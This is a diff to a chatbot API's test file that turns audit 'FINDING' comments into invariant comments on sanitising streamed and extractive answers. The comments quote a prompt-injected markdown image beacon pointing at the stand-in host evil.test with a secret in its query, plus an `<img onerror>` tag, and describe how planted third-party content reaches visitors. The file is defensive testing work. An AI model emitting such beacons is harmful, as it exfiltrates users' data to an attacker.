@@ -252,14 +252,10 @@ describe('the bot never outputs a markdown image', () => {
     expect(done.content).not.toMatch(IMAGE)
   })
 
-  // FINDING: streamed `delta` events carry the model's raw text: sanitizeModelText
-  // (api/src/answers/prompt.ts) only runs on the final content (pipeline.ts finishModelAnswer), while
-  // `onDelta(piece)` forwards every piece unfiltered. So a prompt-injected answer reaches the visitor's
-  // browser with `![x](https://evil.test/p.png?q=secret)` and `<img onerror>` while it streams; the
-  // first-party widget renders alt text only, but any other client of the documented SSE API (or a
-  // future renderer) would load the beacon, and the text the visitor saw differs from what was stored.
-  // Fix: sanitise the stream incrementally (hold back from a `!`/`<` until the construct closes or
-  // cannot be an image/tag, then emit sanitised text), so the deltas concatenate to the stored content.
+  // The streamed `delta` events are sanitised too, not only the stored content: a prompt-injected
+  // `![x](https://evil.test/p.png?q=secret)` or `<img onerror>` must not reach any client of the SSE
+  // API while the answer streams (the first-party widget renders alt text only, other clients may
+  // not), and the deltas must concatenate to what is stored.
   it('the streamed deltas never carry a markdown image or HTML tag', async () => {
     const v = await t.visitor()
     session = v
@@ -276,12 +272,9 @@ describe('the bot never outputs a markdown image', () => {
     expect(streamed).not.toMatch(/<img/)
   })
 
-  // FINDING: without a model (or when it fails), the extractive answer quotes the best passage verbatim
-  // (pipeline.ts extractive) without sanitizeModelText, so a markdown image planted in crawled or
-  // uploaded text (third-party content) is stored in the bot's message and sent to the visitor as the
-  // bot's own words. The widget shows alt text only, but the stored bot output breaks the invariant
-  // that bot messages never contain images. Fix: run the quote through sanitizeModelText (or strip
-  // images/HTML from chunks at ingestion).
+  // Without a model (or when it fails) the answer quotes the best passage verbatim: a markdown image
+  // planted in crawled or uploaded text (third-party content) must not become the bot's own words, so
+  // bot messages never contain images whichever path produced them.
   it('an extractive answer quoting a planted image does not carry it', async () => {
     const v = await t.visitor()
     // The model is out of quota: the answer falls back to quoting the knowledge base.
